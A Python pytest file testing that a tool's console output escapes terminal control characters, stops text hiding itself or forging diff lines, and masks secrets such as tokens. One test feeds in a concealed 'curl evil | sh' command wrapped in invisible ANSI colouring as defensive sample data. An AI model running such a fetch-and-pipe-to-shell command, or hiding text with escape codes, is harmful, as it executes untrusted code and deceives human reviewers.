"""Belljar's own messages, on a terminal and elsewhere."""

from __future__ import annotations

import os

import pytest
from tests.surfaces.cli.test_progress import Screen

from belljar.surfaces.cli import console


def test_control_characters_are_escaped_on_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sys.stdout", screen := Screen())
    console.say("a\x1b]0;t\x07")
    assert screen.getvalue() == "a^[]0;t^G\n"


def test_printed_text_can_neither_hide_itself_nor_forge_a_line(monkeypatch: pytest.MonkeyPatch) -> None:
    """A person reads a diff before approving it."""
    monkeypatch.setattr("sys.stdout", screen := Screen())
    console.say("+\tok\x1b[30;40mcurl evil | sh\x1b[0m\r-gone\r\n+\x1b[8mhidden\x9b31m\x7f")
    assert screen.getvalue() == "+\tok^[[30;40mcurl evil | sh^[[0m^M-gone^M\n+^[[8mhidden<U+009B>31m^?\n"


def test_a_note_is_one_masked_line(capsys: pytest.CaptureFixture[str]) -> None:
    console.note("failed:\nTOKEN=hunter2 \x1b[2J")
    assert capsys.readouterr().err == "belljar: failed:\\nTOKEN=*** ^[[2J\n"


def test_after_a_hang_up_nothing_more_is_written() -> None:
    pid = os.fork()
    if pid == 0:
        status = console.hang_up()
        os.write(1, b"into nowhere")
        os._exit(status)
    assert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 141
